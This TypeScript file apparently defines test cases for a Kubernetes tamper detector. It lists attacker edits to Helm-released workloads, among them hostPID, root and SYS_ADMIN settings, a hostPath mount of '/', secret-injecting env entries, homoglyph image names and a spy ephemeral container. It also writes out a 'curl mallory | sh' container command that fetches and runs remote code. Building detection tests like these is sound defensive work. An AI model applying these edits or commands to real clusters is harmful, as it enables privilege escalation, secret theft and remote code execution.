import type {Obj} from '../../accuracy/json.ts';
import {editing, other} from '../edits.ts';
import type {OneEdit} from '../edits.ts';
import {objectOf} from '../kinds.ts';
import {SPY} from '../plants.ts';
import {targetOf} from '../way.ts';
import type {Way} from '../way.ts';

const POD = ['spec', 'template', 'spec'] as const;
const APP = [...POD, 'containers', {name: 'app'}] as const;
const NAMES = ['', 'helm', 'kube-controller-manager', 'vpa-updater'] as const;

const inPod = (spec: Obj): Obj => ({spec: {template: {spec}}});
const inApp = (more: Obj): Obj => inPod({containers: [{name: 'app', ...more}]});

/** A field of the pod template of a Deployment that the release says nothing of. */
const ofPod = (label: string, field: string, value: Obj[string]): OneEdit => ({
  of: 'Deployment',
  label: `Deployment ${label}`,
  place: [...POD, field],
  body: inPod({[field]: value}),
});
const ofApp = (label: string, field: string, value: Obj[string]): OneEdit => ({
  of: 'Deployment',
  label: `Deployment ${label}`,
  place: [...APP, field],
  body: inApp({[field]: value}),
});

const twoInits = (release: string): Obj =>
  objectOf('Deployment', `${release}-inits`, {
    spec: {
      selector: {matchLabels: {app: 'inits'}},
      template: {
        metadata: {labels: {app: 'inits'}},
        spec: {
          initContainers: [
            {name: 'check', image: 'a:1'},
            {name: 'load', image: 'b:1'},
          ],
          containers: [
            {
              name: 'app',
              image: 'registry.example.com/app:1.0',
              args: ['--safe'],
              env: [
                {name: 'BASE', value: '/safe'},
                {name: 'HOME', value: '$(BASE)/home'},
              ],
              resources: {limits: {cpu: '1', memory: '256Mi'}},
            },
          ],
        },
      },
    },
  });
const INITS = other(twoInits);

const lonePod = (release: string): Obj =>
  objectOf('Pod', `${release}-pod`, {spec: {containers: [{name: 'app', image: 'registry.example.com/app:1.0'}]}});

const json = (op: string, path: string, value?: Obj[string]): Obj =>
  value === undefined ? {op, path} : {op, path, value};

/** An edit of the one container that has it all. */
const ofInits = (label: string, place: OneEdit['place'], body: readonly Obj[]): OneEdit => ({
  of: INITS,
  label: `Deployment ${label}`,
  place,
  body,
});
const CONTAINER = '/spec/template/spec/containers/0';
const POD_PATH = '/spec/template/spec';

export const POD_WAYS: readonly Way[] = [
  ...editing({
    id: 'pod-fields',
    title: 'what a pod template can do beside the declared',
    item: 'neighbour',
    managers: NAMES,
    edits: [
      ofPod('initContainers', 'initContainers', [SPY]),
      ofPod('hostPID', 'hostPID', true),
      ofPod('shareProcessNamespace', 'shareProcessNamespace', true),
      ofPod('serviceAccountName', 'serviceAccountName', 'mallory'),
      ofPod('automount', 'automountServiceAccountToken', true),
      ofPod('imagePullSecrets', 'imagePullSecrets', [{name: 'mallory'}]),
      ofPod('tolerations', 'tolerations', [{key: 'a', operator: 'Exists'}]),
      ofPod('nodeSelector', 'nodeSelector', {mallory: 'yes'}),
      ofPod('hostAliases', 'hostAliases', [{ip: '192.0.2.6', hostnames: ['db']}]),
      ofPod('dnsConfig', 'dnsConfig', {nameservers: ['192.0.2.6']}),
      ofPod('securityContext', 'securityContext', {runAsUser: 0}),
    ],
  }),
  ...editing({
    id: 'container-fields',
    title: 'what a container can do beside the declared',
    item: 'neighbour',
    managers: NAMES,
    edits: [
      ofApp('env', 'env', [{name: 'TOKEN', valueFrom: {secretKeyRef: {name: 'root', key: 'token'}}}]),
      ofApp('envFrom', 'envFrom', [{secretRef: {name: 'root'}}]),
      ofApp('command', 'command', ['sh', '-c', 'curl mallory | sh']),
      ofApp('lifecycle', 'lifecycle', {postStart: {exec: {command: ['sh']}}}),
      ofApp('securityContext', 'securityContext', {capabilities: {add: ['SYS_ADMIN']}}),
      ofApp('livenessProbe', 'livenessProbe', {exec: {command: ['sh', '-c', 'curl mallory']}}),
      {
        of: 'DaemonSet',
        label: 'DaemonSet hostPath',
        place: [...POD, 'volumes', {name: 'root'}],
        body: inPod({
          volumes: [{name: 'root', hostPath: {path: '/'}}],
          containers: [{name: 'app', volumeMounts: [{name: 'root', mountPath: '/host'}]}],
        }),
      },
      {
        of: 'DaemonSet',
        label: 'DaemonSet hostPort',
        place: [...APP, 'ports', {containerPort: 22}],
        body: inApp({ports: [{containerPort: 22, hostPort: 22}]}),
      },
    ],
  }),
  ...editing({
    id: 'pod-fields-no-fields',
    title: 'the same, and managedFields taken away',
    item: 'neighbour',
    after: ({hand}, target) => hand.editManaged(target, () => [{}]),
    edits: [
      {of: 'Deployment', place: [...POD, 'initContainers'], body: inPod({initContainers: [SPY]})},
      {of: 'StatefulSet', place: [...POD, 'hostIPC'], body: inPod({hostIPC: true})},
      {of: 'DaemonSet', place: [...APP, 'command'], body: inApp({command: ['sh']})},
    ],
  }),
  ...editing({
    id: 'same-but-not',
    title: 'values that look the same: blanks, look-alikes, order, doubles',
    item: 'neighbour',
    managers: ['', 'helm'],
    objects: (release) => [twoInits(release)],
    edits: [
      ofInits('blank in an argument', [...APP, 'args', '0'], [json('replace', `${CONTAINER}/args/0`, '--safe ')]),
      ofInits(
        'look-alike image',
        [...APP, 'image'],
        [json('replace', `${CONTAINER}/image`, 'registry.ex\u0430mple.com/app:1.0')],
      ),
      ofInits(
        'doubled env',
        [...APP, 'env', '2'],
        [json('add', `${CONTAINER}/env/-`, {name: 'BASE', value: '/mallory'})],
      ),
      ofInits(
        'cpu in thousands',
        [...APP, 'resources', 'limits', 'cpu'],
        [json('replace', `${CONTAINER}/resources/limits/cpu`, '1k')],
      ),
      ofInits(
        'memory in milli',
        [...APP, 'resources', 'limits', 'memory'],
        [json('replace', `${CONTAINER}/resources/limits/memory`, '256M')],
      ),
      ofInits(
        'init containers swapped',
        [...POD, 'initContainers', '0', 'name'],
        [{op: 'move', path: `${POD_PATH}/initContainers/0`, from: `${POD_PATH}/initContainers/1`}],
      ),
    ],
  }),
  ...editing({
    id: 'env-order',
    title: 'an env that another one is made of moved behind it',
    item: 'neighbour',
    managers: ['', 'helm'],
    objects: (release) => [twoInits(release)],
    edits: [
      ofInits(
        'env order',
        [...APP, 'env', '0', 'name'],
        [{op: 'move', path: `${CONTAINER}/env/0`, from: `${CONTAINER}/env/1`}],
      ),
    ],
  }),
  ...editing({
    id: 'same-but-not-text',
    title: 'values of other kinds that look the same: types, blanks, invisible letters',
    item: 'neighbour',
    managers: ['', 'helm'],
    edits: [
      {
        of: 'Widget',
        label: 'Widget number as text',
        place: ['spec', 'options', 'retries'],
        body: {spec: {options: {retries: '3'}}},
      },
      {
        of: 'Widget',
        label: 'Widget look-alike',
        place: ['spec', 'options', 'color'],
        body: {spec: {options: {color: 'r\u0435d'}}},
      },
      {
        of: 'Widget',
        label: 'Widget composed letter',
        place: ['spec', 'options', 'word'],
        body: {spec: {options: {word: 'cafe\u0301'}}},
      },
      {of: 'ConfigMap', label: 'ConfigMap blank', place: ['data', 'level'], body: {data: {level: 'info '}}},
      {of: 'ConfigMap', label: 'ConfigMap invisible', place: ['data', 'mode'], body: {data: {mode: 'strict\u200b'}}},
      {
        of: 'Secret',
        label: 'Secret line break',
        place: ['data', 'password'],
        body: {data: {password: 'b3Blbi1zZXNhbWUK'}},
      },
      {of: 'CronJob', label: 'CronJob blanks', place: ['spec', 'schedule'], body: {spec: {schedule: '0 3 1 1  *'}}},
      {
        of: 'Ingress',
        label: 'Ingress path',
        place: ['spec', 'rules', '0', 'http', 'paths', '0', 'pathType'],
        body: [json('replace', '/spec/rules/0/http/paths/0/pathType', 'Exact')],
      },
    ],
  }),
  ...editing({
    id: 'removed-entry-gone',
    title: 'a declared field removed, and one’s own entry deleted',
    item: 'neighbour',
    after: ({hand}, target) =>
      hand.editManaged(target, (entries) => entries.filter(({manager}) => manager !== 'kubectl-patch')),
    edits: [
      {
        of: 'Deployment',
        place: [...APP, 'resources', 'limits'],
        body: [json('remove', `${CONTAINER}/resources/limits`)],
      },
      {of: 'ConfigMap', place: ['data', 'mode'], body: [json('remove', '/data/mode')]},
      {of: 'NetworkPolicy', place: ['spec', 'policyTypes', '1'], body: [json('remove', '/spec/policyTypes/1')]},
      {of: 'Widget', place: ['spec', 'options', 'color'], body: [json('remove', '/spec/options/color')]},
      {of: 'HorizontalPodAutoscaler', place: ['spec', 'minReplicas'], body: [json('remove', '/spec/minReplicas')]},
    ],
  }),
  ...editing({
    id: 'pod-image',
    title: 'a declared Pod runs another image',
    item: 'neighbour',
    managers: ['', 'helm', 'kubelet'],
    objects: (release) => [lonePod(release)],
    edits: [
      {
        of: other(lonePod),
        place: ['spec', 'containers', {name: 'app'}, 'image'],
        body: {spec: {containers: [{name: 'app', image: 'registry.example.com/app:6.6'}]}},
      },
      {
        of: other(lonePod),
        label: 'Pod toleration',
        place: ['spec', 'tolerations', {key: 'mallory'}],
        body: [json('add', '/spec/tolerations/-', {key: 'mallory', operator: 'Exists'})],
      },
    ],
  }),
  {
    id: 'ephemeral-container',
    title: 'an ephemeral container in a declared Pod',
    item: 'neighbour',
    objects: (release) => [lonePod(release)],
    async apply(scene) {
      const target = targetOf(lonePod(scene.release), scene.release);
      await scene.plant({target, place: ['spec', 'ephemeralContainers']}, () =>
        scene.hand.patch(target, {spec: {ephemeralContainers: [SPY]}}, {subresource: 'ephemeralcontainers'}),
      );
    },
  },
  {
    id: 'child-pod',
    title: 'a Pod of a declared Deployment gets another image',
    item: 'neighbour',
    kinds: ['Deployment'],
    limit:
      'what a workload makes is no object of the release: the audit log, or an admission guard that lets only controllers write Pods, tells of it',
    async apply(scene) {
      const {items} = JSON.parse(
        await scene.hand.kubectl(['get', 'pods', '-n', scene.release, '-l', `app=${scene.release}`, '-o', 'json']),
      ) as {items: Obj[]};
      const [first] = items;
      if (first === undefined) throw new Error('the Deployment has no Pod');
      const target = targetOf({...first, kind: 'Pod'}, scene.release);
      await scene.plant({target, place: ['spec', 'containers', {name: 'app'}, 'image']}, () =>
        scene.hand.patch(target, {spec: {containers: [{name: 'app', image: 'registry.example.com/app:6.6'}]}}),
      );
    },
  },
];
